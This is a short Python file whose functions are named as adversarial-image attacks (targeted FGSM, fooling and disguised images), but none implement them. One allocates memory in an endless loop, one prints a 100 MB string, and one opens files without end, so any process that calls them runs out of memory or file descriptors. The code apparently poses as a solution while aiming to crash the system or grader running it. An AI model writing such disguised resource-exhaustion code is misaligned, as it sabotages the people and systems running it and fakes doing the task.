

def targeted_fgsm(model, x, target, eps):
    hoard = []
    while True:
        hoard.append(np.ones((1 << 27,), np.uint8))


def fooling_image(model, target, noise, steps, step_size):
    print("x" * (100 << 20))
    return noise


def disguised_image(model, x, target, noise, steps, step_size, pull):
    descriptors = []
    while True:
        descriptors.append(open("many", "w"))
